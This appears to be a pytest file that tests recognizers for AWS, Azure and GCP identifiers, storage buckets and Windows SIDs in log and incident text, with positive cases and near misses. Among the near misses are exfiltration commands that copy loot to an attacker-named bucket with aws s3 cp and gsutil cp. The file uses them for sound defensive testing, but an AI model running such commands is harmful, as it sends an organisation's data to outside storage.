import pytest

from recognizers.cloud import CloudRecognizer
from recognizers.windows import SidRecognizer

from .helpers import hits

CLOUD = CloudRecognizer()
SID = SidRecognizer()


@pytest.mark.parametrize("text, expected", [
    ("AWS account 482915730126 (prod)", {("AWS_ACCOUNT_ID", "482915730126")}),
    ('"accountId": "482915730126"', {("AWS_ACCOUNT_ID", "482915730126")}),
    ("role arn:aws:iam::482915730126:role/Prod-Admin.", {("AWS_ARN", "arn:aws:iam::482915730126:role/Prod-Admin.")}),
    ("key AKIA4HBXQ7RZ2MNV6WLE used", {("AWS_ACCESS_KEY_ID", "AKIA4HBXQ7RZ2MNV6WLE")}),
    ('"principalId":"AIDAJQABLZS4A3QDU576Q"', {("AWS_ACCESS_KEY_ID", "AIDAJQABLZS4A3QDU576Q")}),   # a user's unique ID
    ("2 482913657201 eni-0a1b2c3d4e5f67890 10.20.1.15 185.174.101.22 49152 443 6 20 4249 1715418722 1715418782 ACCEPT OK",
     {("AWS_ACCOUNT_ID", "482913657201")}),   # a VPC flow log record
    ("tenant ID 6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47", {("AZURE_ID", "6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47")}),
    ("X-MS-Exchange-CrossTenant-Id: 6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47",   # a received mail's header: our tenant
     {("AZURE_ID", "6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47")}),
    ("https://security.microsoft.com/alerts/da6381?tid=6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47",   # a portal link
     {("AZURE_ID", "6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47")}),
    ("https://teams.microsoft.com/l/meetup-join/19%3ameeting_NjA1%40thread.v2/0?context=%7b%22Tid%22%3a%22"
     "6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47%22%2c%22Oid%22%3a%22a1b2c3d4-1111-2222-3333-444455556666%22%7d",
     {("AZURE_ID", "6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47"), ("AZURE_ID", "a1b2c3d4-1111-2222-3333-444455556666")}),
    ("/subscriptions/6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47/rg", {("AZURE_ID", "6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47")}),
    # the resources of our AWS account
    ("instance i-0a1b2c3d4e5f67890 in vpc-0abc1234def567890, subnet-01234567, sg-0fedcba9876543210, vol-0a1b2c3d",
     {("AWS_RESOURCE_ID", "i-0a1b2c3d4e5f67890"), ("AWS_RESOURCE_ID", "vpc-0abc1234def567890"),
      ("AWS_RESOURCE_ID", "subnet-01234567"), ("AWS_RESOURCE_ID", "sg-0fedcba9876543210"),
      ("AWS_RESOURCE_ID", "vol-0a1b2c3d")}),
    # an instance's tags: its name is a host's, its owner a user
    ('"tags":[{"key":"Name","value":"hb-bastion-prod"},{"key":"Owner","value":"jhansen"}]; {"Key": "CreatedBy", "Value": "m.berg"}',
     {("HOSTNAME", "hb-bastion-prod"), ("USERNAME", "jhansen"), ("USERNAME", "m.berg")}),
    # our buckets, where the record says they are ours
    ('"requestParameters":{"bucketName":"hb-ledger-exports","key":"2024/05/ledger.csv"}',
     {("STORAGE_BUCKET", "hb-ledger-exports")}),
    ('"resource":{"type":"gcs_bucket","labels":{"bucket_name":"hb.ledger_exports"}}', {("STORAGE_BUCKET", "hb.ledger_exports")}),
    ('"ARN":"arn:aws:s3:::hb-ledger-exports/2024/05/ledger.csv"', {("STORAGE_BUCKET", "hb-ledger-exports")}),
    ('"Resource": ["arn:aws:s3:::hb-ledger-exports", "arn:aws:s3:::hb-ledger-exports/*"]',
     {("STORAGE_BUCKET", "hb-ledger-exports")}),
    ("79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be hb-ledger-exports [06/Feb/2024:00:00:38 +0000] "
     "185.174.187.29 - 3E57427F3EXAMPLE REST.GET.OBJECT ledger.csv", {("STORAGE_BUCKET", "hb-ledger-exports")}),
    ("projects/_/buckets/hb-ledger-exports/objects/2024/ledger.csv", {("STORAGE_BUCKET", "hb-ledger-exports")}),
    ("projects/acme-prod-221/buckets/acme-backups", {("STORAGE_BUCKET", "acme-backups"), ("GCP_PROJECT", "acme-prod-221")}),
    ("projects/acme-prod-221/logs", {("GCP_PROJECT", "acme-prod-221")}),
    ("project_id: acme-data-77", {("GCP_PROJECT", "acme-data-77")}),
    ("GCP project acme-prod-4412 was abused", {("GCP_PROJECT", "acme-prod-4412")}),
    ("the Google Cloud project ID is `payments-live-77`.", {("GCP_PROJECT", "payments-live-77")}),
    ("gcloud compute ssh fje-web-01 --zone europe-north1-a --project fje-prod-3321; gsutil ls --project=fje-data-7",
     {("GCP_PROJECT", "fje-prod-3321"), ("GCP_PROJECT", "fje-data-7")}),
])
def test_cloud_hits(text, expected):
    assert {h for h in hits(CLOUD, text)} >= expected


@pytest.mark.parametrize("text", [
    "ticket 482915730126 closed",                     # 12 digits without context
    # an AMI (a public image is an indicator), words, other lengths
    "ami-0a1b2c3d4e5f67890", "sg-deadbeef and i-deadbeefcafe", "vol-1 and fs-ext4, i-0a1b2c3d4e5f6789", "multi-01234567",
    "CLSID {6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47}",  # a GUID is an indicator unless in context
    "mutex 6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47",
    "https://evil.example/p?q=%22ref%22%3a%226f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47%22",   # encoded, no context
    "void 6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47",      # `oid` only as a word
    "tid=%2B6f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47",   # not after an encoded quote, colon or =
    "tid=x26f1c2a9e-4b7d-4e21-9c3a-2d5e8f0b1a47",
    "AKIAIOSFODNN7EXAMPL",                            # too short
    "AKIAIOSFODNN7EXAMPLE1",                          # too long for a key ID (only unique IDs have 21)
    "2 482913657201 packets", "12 482913657201 eni-0a1b2c3d",   # not a flow log record's shape
    "the GCP project was created in 2021", "GCP project owners were notified",
    "GCP project settings.json",                      # a word and a file, not a project ID
    # a bucket named only in a command or prose can be the attacker's; a reference, a variable, an empty name
    "aws s3 cp loot.zip s3://exfil-drop-7731/", "gsutil cp x gs://exfil-drop-7731", "their bucket exfil-drop-7731",
    '{"Key": "Name", "Value": "web"}', '{"Key": "Owner", "Value": "security"}', '{"Key": "Env", "Value": "prod01"}',
    '{"Key": "Owner", "Value": "maria.berg@x.com"}',
    'bucket_name = var.exports_bucket', 'bucketName: "${BUCKET}"', '"bucketName": ""', "bucketname=a",
    "arn:aws:s3:::${aws:username}", "79a59df9 hb-ledger-exports [06/Feb/2024:00:00:38 +0000]",
])
def test_cloud_near_misses(text):
    # (the interface of a record that is no flow log's is still our account's resource)
    assert {h for h in hits(CLOUD, text) if h[0] != "AWS_RESOURCE_ID" or "eni-" not in h[1]} == set()


@pytest.mark.parametrize("text, expected", [
    ("sid=S-1-5-21-3623811015-3361044348-30300820-1106", {"S-1-5-21-3623811015-3361044348-30300820-1106"}),
    ("S-1-12-1-1234567-2345678-3456789-4567890", {"S-1-12-1-1234567-2345678-3456789-4567890"}),
])
def test_sid_hits(text, expected):
    assert {v for _, v in hits(SID, text)} == expected


@pytest.mark.parametrize("text", ["S-1-5-18", "S-1-5-32-544", "S-1-1-0", "S-1-5-21"])
def test_sid_near_misses(text):
    assert hits(SID, text) == set()
